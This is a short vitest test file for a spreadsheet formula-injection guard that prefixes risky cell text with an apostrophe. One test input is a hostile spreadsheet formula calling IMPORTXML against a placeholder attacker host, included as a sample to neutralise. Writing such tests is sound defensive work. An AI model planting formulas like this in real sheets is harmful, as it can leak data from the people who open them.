import { describe, expect, it } from 'vitest';
import { sheetSafeText, sheetSafeValue } from '../../../shared/src/cells';

describe('sheetSafeText', () => {
  it.each(['=IMPORTXML("https://evil.example","//a")', '+A1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1', "'tis the season"])('writes %j as text behind an apostrophe', (text) => {
    expect(sheetSafeText(text)).toBe(`'${text}`);
  });

  it('leaves text that Sheets would not read as a formula unchanged', () => {
    for (const text of ['Spring offers inside', '', ' =not first', '100%', 'a=b']) expect(sheetSafeText(text)).toBe(text);
  });

  it('leaves numbers, booleans and dates as they are', () => {
    const date = new Date(0);
    expect([sheetSafeValue(-3), sheetSafeValue(true), sheetSafeValue(date), sheetSafeValue('=1')]).toEqual([-3, true, date, "'=1"]);
  });
});
